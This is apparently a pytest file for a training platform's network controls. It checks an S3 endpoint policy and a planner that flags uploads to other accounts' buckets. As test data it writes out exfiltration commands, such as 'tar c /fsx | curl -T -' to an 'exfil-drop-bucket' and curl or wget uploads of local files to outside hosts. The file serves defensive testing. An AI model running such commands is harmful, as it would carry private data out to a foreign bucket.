"""The S3 gateway endpoint's policy keeps a pod from writing to another account's bucket, and
the plan says what a job's upload meets (platform/network.py `s3_endpoint_policy`,
plan/checks/s3_reach.py, jobs/fetches.py; docs/teams.md, Network).

Why: a team's NetworkPolicy opens HTTPS to the region's S3 ranges, every bucket's; without
an endpoint policy a job could `tar c /fsx | curl -T - https://<bucket>.s3...` to a bucket
of any account, and the plan said nothing (a security review, wave 21).
"""

from __future__ import annotations

import json
from types import SimpleNamespace

import pytest

from trainforge.jobs import fetches as F
from trainforge.plan.checks import iam_rehearsal as R
from trainforge.plan.checks.iam_eval import Policy
from trainforge.plan.checks.iam_stack import StackIam
from trainforge.plan.checks.s3_reach import ANOTHER_ACCOUNT, S3Endpoint, s3_endpoints, through
from trainforge.platform.network import interface_endpoint_policy, s3_endpoint_policy

ACCOUNT = "111122223333"
REGION = "us-east-1"
ME = dict(principal=f"arn:aws:iam::{ACCOUNT}:role/job", principal_account=ACCOUNT)


def endpoint(doc: dict | None) -> S3Endpoint:
    return S3Endpoint(
        "net-s3", "urn:net-s3", Policy("endpoint policy net-s3", doc) if doc else None
    )


@pytest.mark.parametrize(
    ("action", "bucket", "owner", "allowed"),
    [
        ("s3:PutObject", "ckpt", ACCOUNT, True),  # the checkpoint bucket, this account's
        ("s3:DeleteObject", "ckpt", ACCOUNT, True),  # the S3 mirror prunes old checkpoints
        ("s3:GetObject", f"prod-{REGION}-starport-layer-bucket", "AWS", True),  # ECR layers
        ("s3:GetObject", f"al2023-repos-{REGION}-de612dc2", "AWS", True),  # dnf on nodes
        ("s3:PutObject", f"prod-{REGION}-starport-layer-bucket", "AWS", False),
        ("s3:PutObject", "exfil-drop-bucket", ANOTHER_ACCOUNT, False),
        ("s3:GetObject", "exfil-drop-bucket", ANOTHER_ACCOUNT, False),
        ("s3:PutObject", "shared-data", ANOTHER_ACCOUNT, True),  # the data repository, by name
    ],
)
def test_the_endpoint_admits_this_accounts_buckets_and_what_nodes_read(
    action, bucket, owner, allowed
):
    ep = endpoint(s3_endpoint_policy(REGION, ACCOUNT, ("shared-data",)))
    d = through(ep, action, bucket, "k", resource_account=owner, **ME)
    assert d.allowed is allowed, d.explain()


def test_no_policy_is_aws_default_full_access():
    d = through(endpoint(None), "s3:PutObject", "exfil", "k", resource_account="x", **ME)
    assert d.allowed and "no policy" in d.reason


def test_interface_endpoints_refuse_another_accounts_credentials():
    """ECR: another account's principal cannot push through the VPC; our node role pulls
    EKS's add-on images from AWS's registry account; SQS: only this account's queues."""
    ecr = endpoint(interface_endpoint_policy("ecr.api", ACCOUNT))
    ours = dict(principal_account=ACCOUNT, resource_account="602401143452", principal="n")
    theirs = dict(principal_account="999988887777", resource_account="999988887777", principal="x")
    assert through(ecr, "ecr:BatchGetImage", "r", None, **ours).allowed
    assert not through(ecr, "ecr:PutImage", "r", None, **theirs).allowed
    sqs = endpoint(interface_endpoint_policy("sqs", ACCOUNT))
    assert not through(sqs, "sqs:SendMessage", "q", None, **ours).allowed
    assert interface_endpoint_policy("eks-auth", ACCOUNT) is None  # left default, said why


def _inventory(policy: dict | None) -> SimpleNamespace:
    inputs = {"serviceName": f"com.amazonaws.{REGION}.s3", "vpcEndpointType": "Gateway"}
    if policy is not None:
        inputs["policy"] = json.dumps(policy)
    ep = SimpleNamespace(type="aws:ec2/vpcEndpoint:VpcEndpoint", name="net-s3",
                         urn="urn:net-s3", inputs=inputs)  # fmt: skip
    return SimpleNamespace(resources=[ep])


def _rehearse(policy: dict | None) -> R._Run:
    stack = StackIam(ACCOUNT, REGION, "aws", {}, [], {}, {"ckpt": R.aws.BucketFacts("ckpt")}, {})
    run = R._Run(stack)
    R._rehearse_s3_endpoints(run, _inventory(policy))
    return run


def test_the_rehearsal_proves_the_stacks_endpoint_policy():
    run = _rehearse(s3_endpoint_policy(REGION, ACCOUNT))
    assert run.findings == []
    assert run.tallies[0].line() == (
        "S3 gateway endpoint net-s3 (policy): 3 calls allowed, 3 denied as required"
    )


def test_the_rehearsal_refuses_an_endpoint_without_a_policy():
    found = _rehearse(None).findings
    assert {f.rule for f in found} == {R.TOO_BROAD}
    assert any(
        "lets s3:PutObject on s3://another-teams-bucket/ (another account's bucket: a pod "
        "holding its credentials or a presigned URL could carry the team's data there" in f.message
        for f in found
    )


def test_the_rehearsal_refuses_an_endpoint_that_forgets_ecrs_layers():
    doc = s3_endpoint_policy(REGION, ACCOUNT)
    doc["Statement"] = doc["Statement"][:1]
    (f,) = _rehearse(doc).findings
    assert f.rule == R.DENIED and f"prod-{REGION}-starport-layer-bucket" in f.message


def test_the_endpoints_are_read_from_the_inventory():
    (ep,) = s3_endpoints(_inventory(s3_endpoint_policy(REGION, ACCOUNT)))
    assert ep.policy is not None and ep.name == "net-s3"


@pytest.mark.parametrize(
    ("script", "upload", "bucket", "described"),
    [
        ("tar c /fsx | curl -T - https://drop.s3.us-east-1.amazonaws.com/llm.tar", True, "drop",
         "curl -T https://drop.s3.us-east-1.amazonaws.com/llm.tar uploads to "
         "drop.s3.us-east-1.amazonaws.com"),
        ("curl --upload-file /etc/hostname https://example.org/up", True, "",
         "curl --upload-file https://example.org/up uploads to example.org"),
        ("curl -d @/fsx/x https://example.org/up", True, "", "uploads to example.org"),
        ("wget --post-file=/fsx/x https://example.org/up", True, "", "uploads to example.org"),
        ("curl -o /tmp/m https://example.org/m.bin", False, "", "downloads from example.org"),
        ("aws s3 cp /fsx/ckpt.pt s3://other/x", True, "other",
         "aws s3 cp /fsx/ckpt.pt uploads to s3://other/x"),
        ("aws s3 sync s3://other/data /tmp/d", False, "other", "aws s3 sync downloads from s3://other/data"),
        ("curl https://s3.us-east-1.amazonaws.com/pathstyle/k", False, "pathstyle", "downloads"),
    ],
)  # fmt: skip
def test_uploads_are_uploads_and_s3_urls_name_their_bucket(script, upload, bucket, described):
    (f,) = list(F.shell_fetches(script, "c"))
    assert (f.upload, f.bucket) == (upload, bucket)
    assert described in f.describe()


def test_python_uploads_and_s3_buckets():
    code = "import requests\nrequests.put('https://drop.s3.us-east-1.amazonaws.com/k', data=b'x')"
    (f,) = F.python_fetches(code, "up.py")
    assert f.upload and f.bucket == "drop" and "uploads to" in f.describe()


def test_s3_of_the_region_is_kept_for_the_endpoint_and_other_regions_are_the_internet():
    here = F.Fetch("w", "curl", "drop.s3.us-west-2.amazonaws.com", bucket="drop")
    there = F.Fetch("w", "curl", "drop.s3.eu-central-1.amazonaws.com", bucket="drop")
    api = F.Fetch("w", "curl", "sts.us-west-2.amazonaws.com")
    assert F.outside_aws([here, there, api], "us-west-2") == [here, there]
    assert F.in_region_s3(here, "us-west-2") and not F.in_region_s3(there, "us-west-2")
    assert F.without_stack([here, api]) == [api]


def test_the_plan_refuses_an_upload_to_another_accounts_bucket(tmp_path, capsys):
    """The review's job: the team volume piped to another account's bucket is refused with what
    the endpoint does, as an upload; the same upload to the stack's own bucket is not."""
    from test_plan_stacks import project_copy  # noqa: PLC0415 - the plan tests' helper

    from trainforge.plan import cli  # noqa: PLC0415

    script = (
        "tar c /fsx | curl -T - https://exfil-drop-bucket.s3.us-west-2.amazonaws.com/r.tar\n"
        "aws s3 cp /fsx/ckpt.pt s3://platform-services-ckpt-id/research/ckpt.pt\n"
        "curl -T /etc/hostname https://example.org/up"
    )
    job = {
        "name": "exfil", "team": "research", "pool": "training-workloads", "workers": 1,
        "image": "123456789012.dkr.ecr.us-west-2.amazonaws.com/research/ft:1",
        "entrypoint": {"command": ["bash", "-c", script]},
    }  # fmt: skip
    root = project_copy(tmp_path, "dev", lambda c: c["trainforge:jobs"].append(job))
    report = tmp_path / "report.txt"
    rc = cli.main(["--stack", "dev", "--project-dir", str(root), "--no-standins",
                   "--report", str(report)])  # fmt: skip
    out = " ".join((capsys.readouterr().out + report.read_text()).split())
    assert rc == 1
    assert (
        "research/PyTorchJob/exfil uploads when it runs (container pytorch command:1: curl -T "
        "https://exfil-drop-bucket.s3.us-west-2.amazonaws.com/r.tar uploads to "
        "exfil-drop-bucket.s3.us-west-2.amazonaws.com): bucket exfil-drop-bucket is not this "
        "stack's, and the VPC's S3 gateway endpoint platform-net-s3 denies s3:PutObject on a "
        "bucket of another account"
    ) in out
    assert "curl -T https://example.org/up uploads to example.org" in out
    # the stack's own bucket, written the same way, is not refused (it is this account's)
    assert "REFUSED: research/PyTorchJob/exfil: container pytorch command:1" in out
    assert "exfil: container pytorch command:2" not in out
    assert "uploads to s3://platform-services-ckpt-id" not in out
